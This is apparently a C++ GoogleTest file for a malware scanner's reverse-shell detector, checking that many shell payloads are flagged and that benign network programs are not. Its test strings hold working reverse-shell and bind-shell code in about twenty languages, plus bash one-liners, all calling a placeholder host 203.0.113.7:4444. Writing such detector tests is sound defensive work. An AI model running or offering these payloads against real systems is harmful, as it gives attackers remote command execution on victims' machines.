// One test for each class of reverse shell and for each language that it is written in: whatever the spelling, the mechanism is found and the peer named.
#include <gtest/gtest.h>

#include "detect/detector_test_support.h"

namespace lazaret::detect {

extern const Detector reverse_shell_detector, dropper_detector;

namespace {

constexpr std::string_view peer = "203.0.113.7:4444";

struct Source {
  const char* path;
  const char* text;
};

bool found(const std::vector<std::string>& rules) {
  return std::any_of(rules.begin(), rules.end(), [](const std::string& rule) {
    return rule.starts_with("reverse-shell.") || rule.starts_with("bind-shell.");
  });
}

// As a file of its own, and with the peer among the indicators unless the text does not say it.
void expect_source(std::initializer_list<Source> sources, bool says_peer = true) {
  for (const Source& source : sources) {
    const auto outcome = test::inspect(reverse_shell_detector, {.path = source.path, .content = source.text});
    EXPECT_TRUE(found(outcome.rules())) << source.path << ": " << source.text;
    if (!says_peer) continue;
    EXPECT_TRUE(outcome.has_indicator("c2", peer)) << source.path << ": " << source.text;
    for (const FileFinding& finding : outcome.findings) EXPECT_EQ(test::severity_of(finding), Severity::critical) << source.text;
  }
}

void expect_script(std::initializer_list<const char*> texts) {
  for (const char* text : texts) {
    const auto outcome = test::inspect(reverse_shell_detector, {.path = "/run.sh", .content = "#!/bin/bash\n" + std::string(text) + "\n"});
    EXPECT_TRUE(found(outcome.rules())) << text;
  }
}

TEST(ReverseShellRows, R4Python) {
  expect_source({
      {"/a.py", "import os,pty,socket\ns=socket.socket()\ns.connect((\"203.0.113.7\",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn(\"sh\")\n"},
      {"/b.py", "import socket as a,subprocess as b,os as c\ns=a.socket(a.AF_INET,a.SOCK_STREAM)\ns.connect((\"203.0.113.7\",4444))\nc.dup2(s.fileno(),0)\nc.dup2(s.fileno(),1)\nb.call([\"/bin/sh\",\"-i\"])\n"},
      {"/c.py", "a=__import__;s=a(\"socket\");o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s.socket(s.AF_INET,s.SOCK_STREAM);c.connect((\"203.0.113.7\",4444));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")\n"},
      {"/d.py", "import socket,subprocess\ns=socket.socket()\ns.connect((\"203.0.113.7\",4444))\nsubprocess.call([\"/bin/bash\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\n"},
      {"/e.py", "import socket,subprocess\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"203.0.113.7\",4444))\nwhile True:\n  c=s.recv(1024).decode()\n  p=subprocess.Popen(c,shell=True,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n  s.send(p.communicate()[0])\n"},
      {"/f.py", "import socket,os\ns=socket.create_connection((\"203.0.113.7\",4444))\nwhile 1: s.sendall(os.popen(s.recv(4096).decode()).read().encode())\n"},
  });
  expect_source({
      {"/g.py", "import socket,os,pty\ns=socket.socket(socket.AF_INET6,socket.SOCK_STREAM)\ns.connect((\"2001:db8::7\",4444,0,2))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn(\"/bin/sh\")\n"},
      {"/h.py", "import sys,socket,os,pty\ns=socket.socket()\ns.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn(\"/bin/sh\")\n"},
  }, false);
}

TEST(ReverseShellRows, R4Perl) {
  expect_source({
      {"/a.pl", "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};\n"},
      {"/b.pl", "use IO::Socket;\n$c=new IO::Socket::INET(PeerAddr,\"203.0.113.7:4444\");\nSTDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\n"},
      {"/c.pl", "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => '203.0.113.7', PeerPort => 4444, Proto => 'tcp');\nwhile (<$s>) { print $s `$_`; }\n"},
  });
  expect_script({"perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.7:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"});
}

TEST(ReverseShellRows, R4Php) {
  for (const char* start : {"exec(\"/bin/sh -i <&3 >&3 2>&3\");", "shell_exec(\"sh <&3 >&3 2>&3\");", "system(\"sh <&3 >&3 2>&3\");", "passthru(\"sh <&3 >&3 2>&3\");",
                            "`sh <&3 >&3 2>&3`;", "popen(\"sh <&3 >&3 2>&3\", \"r\");", "$p=proc_open(\"sh\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);",
                            "while(!feof($sock)){fwrite($sock,shell_exec(fgets($sock)));}"}) {
    const std::string text = "<?php $sock=fsockopen(\"203.0.113.7\",4444);" + std::string(start) + " ?>";
    expect_source({{"/a.php", text.c_str()}});
    const std::string line = "php -r '$sock=fsockopen(\"203.0.113.7\",4444);" + std::string(start) + "'";
    expect_script({line.c_str()});
  }
}

TEST(ReverseShellRows, R4Ruby) {
  expect_source({
      {"/a.rb", "require 'socket'\nf=TCPSocket.open(\"203.0.113.7\",4444).to_i\nexec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)\n"},
      {"/b.rb", "require 'socket'\nspawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.7\",4444))\n"},
      {"/c.rb", "require 'socket'\nc=TCPSocket.new(\"203.0.113.7\",\"4444\")\nwhile(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end\n"},
  });
  expect_script({"ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.7\",4444))'"});
}

TEST(ReverseShellRows, R4Lua) {
  expect_source({
      {"/a.lua", "require('socket');require('os');t=socket.tcp();t:connect('203.0.113.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\n"},
      {"/b.lua", "local socket = require(\"socket\")\nlocal tcp = socket.tcp()\ntcp:connect(\"203.0.113.7\", 4444)\nwhile true do local cmd = tcp:receive() local f = io.popen(cmd, \"r\") tcp:send(f:read(\"*a\")) f:close() end\n"},
  });
}

TEST(ReverseShellRows, R4Compiled) {
  expect_source({
      {"/a.go", "package main;import\"os/exec\";import\"net\";func main(){c,_:=net.Dial(\"tcp\",\"203.0.113.7:4444\");cmd:=exec.Command(\"sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}\n"},
      {"/b.go", "package main\nimport (\"bufio\";\"net\";\"os/exec\")\nfunc main() {\n c, _ := net.Dial(\"tcp\", \"203.0.113.7:4444\")\n for { l, _ := bufio.NewReader(c).ReadString('\\n')\n o, _ := exec.Command(\"/bin/sh\", \"-c\", l).Output()\n c.Write(o) }\n}\n"},
      {"/a.c", "#include <stdio.h>\n#include <sys/socket.h>\nint main(void){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a;a.sin_addr.s_addr=inet_addr(\"203.0.113.7\");a.sin_port=htons(4444);connect(s,(void*)&a,sizeof a);dup2(s,0);dup2(s,1);dup2(s,2);char*const v[]={\"/bin/sh\",NULL};execve(\"/bin/sh\",v,NULL);}\n"},
      {"/a.rs", "use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nuse std::process::{Command, Stdio};\nfn main() {\n let s = TcpStream::connect(\"203.0.113.7:4444\").unwrap();\n let fd = s.as_raw_fd();\n Command::new(\"/bin/sh\").arg(\"-i\").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).spawn().unwrap().wait().unwrap();\n}\n"},
      {"/a.cr", "require \"process\"\nrequire \"socket\"\nc = Socket.tcp(Socket::Family::INET)\nc.connect(\"203.0.113.7\", 4444)\nloop do\n m, l = c.receive\n p = Process.new(m.rstrip(\"\\n\"), output:Process::Redirect::Pipe, shell:true)\n c << p.output.gets_to_end\nend\n"},
      {"/a.dart", "import 'dart:io';\nmain() {\n Socket.connect(\"203.0.113.7\", 4444).then((socket) {\n socket.listen((data) {\n Process.start('sh', []).then((Process process) {\n process.stdin.writeln(new String.fromCharCodes(data).trim());\n process.stdout.listen((output) { socket.write(output); });\n });\n });\n });\n}\n"},
  });
}

TEST(ReverseShellRows, R5StreamCopies) {
  expect_source({
      {"/a.js", "(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"sh\",[]);var client=new net.Socket();client.connect(4444,\"203.0.113.7\",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();\n"},
      {"/b.js", "const { spawn } = require('child_process');\nconst c = require('net').connect(4444, '203.0.113.7');\nconst p = spawn('/bin/bash', ['-i']);\nc.pipe(p.stdin); p.stdout.pipe(c);\n"},
      {"/c.js", "require('net').connect({host:'203.0.113.7',port:4444},function(){const s=this;s.on('data',d=>require('child_process').exec(d.toString(),(e,o)=>s.write(o)))})\n"},
      {"/A.java", "String host=\"203.0.113.7\";int port=4444;String cmd=\"sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(\"203.0.113.7\",4444);InputStream pi=p.getInputStream(),si=s.getInputStream();OutputStream po=p.getOutputStream(),so=s.getOutputStream();\n"},
      {"/a.groovy", "Process p=new ProcessBuilder(\"/bin/bash\").redirectErrorStream(true).start();Socket s=new Socket(\"203.0.113.7\",4444);InputStream pi=p.getInputStream(),si=s.getInputStream();\n"},
      {"/a.cs", "using (TcpClient client = new TcpClient(\"203.0.113.7\", 4444)) { using (Stream stream = client.GetStream()) { Process p = new Process(); p.StartInfo.FileName = \"/bin/sh\"; p.StartInfo.RedirectStandardInput = true; p.Start(); } }\n"},
      {"/a.ps1", "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$stream.Write($sendback)}\n"},
      {"/a.tcl", "set s [socket 203.0.113.7 4444];while 42 { puts -nonewline $s \"shell>\";flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;\n"},
      {"/a.jl", "using Sockets; c=connect(\"203.0.113.7\",4444); while true; cmd = readline(c, keep=true); println(c, read(`/bin/sh -c $cmd`, String)); end\n"},
  });
  expect_script({
      "jrunscript -e 'var p=new java.lang.ProcessBuilder(\"/bin/bash\",\"-i\").redirectErrorStream(true).start();var s=new java.net.Socket(\"203.0.113.7\",4444);var pi=p.getInputStream(),si=s.getInputStream();'",
      "echo 'set s [socket 203.0.113.7 4444];while 42 {flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;' | tclsh",
      "node -e '(function(){var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(4444,\"203.0.113.7\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})();'",
  });
}

TEST(ReverseShellRows, R8Listeners) {
  for (const Source& source : {
           Source{"/a.py", "import socket,os,pty\ns=socket.socket()\ns.bind((\"0.0.0.0\",4444))\ns.listen(1)\nc,a=s.accept()\nos.dup2(c.fileno(),0)\nos.dup2(c.fileno(),1)\npty.spawn(\"/bin/sh\")\n"},
           Source{"/a.pl", "use Socket;$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));bind(S,sockaddr_in($p,INADDR_ANY));listen(S,1);for(;accept(C,S);close C){open(STDIN,\">&C\");open(STDOUT,\">&C\");exec(\"/bin/sh -i\");}\n"},
           Source{"/a.php", "<?php $s=socket_create(AF_INET,SOCK_STREAM,0);socket_bind($s,\"0.0.0.0\",4444);socket_listen($s,1);$c=socket_accept($s);while(1){$i=socket_read($c,1024);$p=popen($i,\"r\");while(!feof($p)){socket_write($c,fgets($p,1024));}pclose($p);} ?>\n"},
           Source{"/a.rb", "require 'socket'\nf=TCPServer.new(4444)\ns=f.accept\nexec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",s.to_i,s.to_i,s.to_i)\n"},
           Source{"/a.js", "var net=require('net'),cp=require('child_process');net.createServer(function(c){var sh=cp.spawn('/bin/sh',[]);c.pipe(sh.stdin);sh.stdout.pipe(c);}).listen(4444);\n"},
           Source{"/a.go", "package main\nimport (\"net\";\"os/exec\")\nfunc main(){l,_:=net.Listen(\"tcp\",\":4444\");for{c,_:=l.Accept();cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}}\n"},
           Source{"/a.c", "int main(void){int s=socket(AF_INET,SOCK_STREAM,0);bind(s,(void*)&a,sizeof a);listen(s,1);int c=accept(s,0,0);dup2(c,0);dup2(c,1);execve(\"/bin/sh\",v,0);}\n"},
       }) {
    const auto outcome = test::inspect(reverse_shell_detector, {.path = source.path, .content = source.text});
    EXPECT_TRUE(outcome.has("bind-shell.listener")) << source.text << " gave " << testing::PrintToString(outcome.rules());
  }
}

TEST(ReverseShellRows, NetworkProgramsThatStartProcessesAreNoShells) {
  for (const Source& source : {
           Source{"/a.py", "import socket,subprocess\ndef wait(host):\n  s=socket.create_connection((host,5432))\n  s.close()\nsubprocess.run(['/bin/sh','-c','exec postgres'])\n"},
           Source{"/b.py", "import socketserver,subprocess\nclass H(socketserver.BaseRequestHandler):\n  def handle(self):\n    self.request.sendall(subprocess.check_output(['uptime']))\n"},
           Source{"/c.py", "import socket\ns=socket.socket()\ns.connect(('203.0.113.7',8125))\ns.send(b'up:1|c')\nimport subprocess\nsubprocess.run(['true'])\n"},
           Source{"/a.js", "const net=require('net');const {execFile}=require('child_process');net.createServer(s=>{execFile('uptime',(e,o)=>s.end(o))}).listen(80);\n"},
           Source{"/a.php", "<?php $f=fsockopen('127.0.0.1',25);fwrite($f,'HELO');echo fgets($f); exec('date'); ?>\n"},
           Source{"/a.rb", "require 'socket'\ns=TCPSocket.new('localhost',6379)\ns.puts 'PING'\nputs s.gets\nsystem('ls')\n"},
           Source{"/a.go", "package main\nimport (\"net\";\"os/exec\")\nfunc main(){c,_:=net.Dial(\"tcp\",\"db:5432\");c.Close();exec.Command(\"postgres\").Run()}\n"},
           Source{"/a.lua", "local s=require('socket').tcp() s:connect('localhost',80) s:send('GET /') print(s:receive()) os.execute('ls')\n"},
           Source{"/a.pl", "use IO::Socket::INET;\nmy $s=IO::Socket::INET->new(PeerAddr=>'localhost',PeerPort=>25);\nprint $s \"QUIT\";\nmy $d=`date`;\n"},
       }) {
    const auto outcome = test::inspect(reverse_shell_detector, {.path = source.path, .content = source.text});
    for (const FileFinding& finding : outcome.findings) EXPECT_LE(test::severity_of(finding), Severity::medium) << source.text << " gave " << finding.rule->id;
  }
}

}  // namespace
}  // namespace lazaret::detect
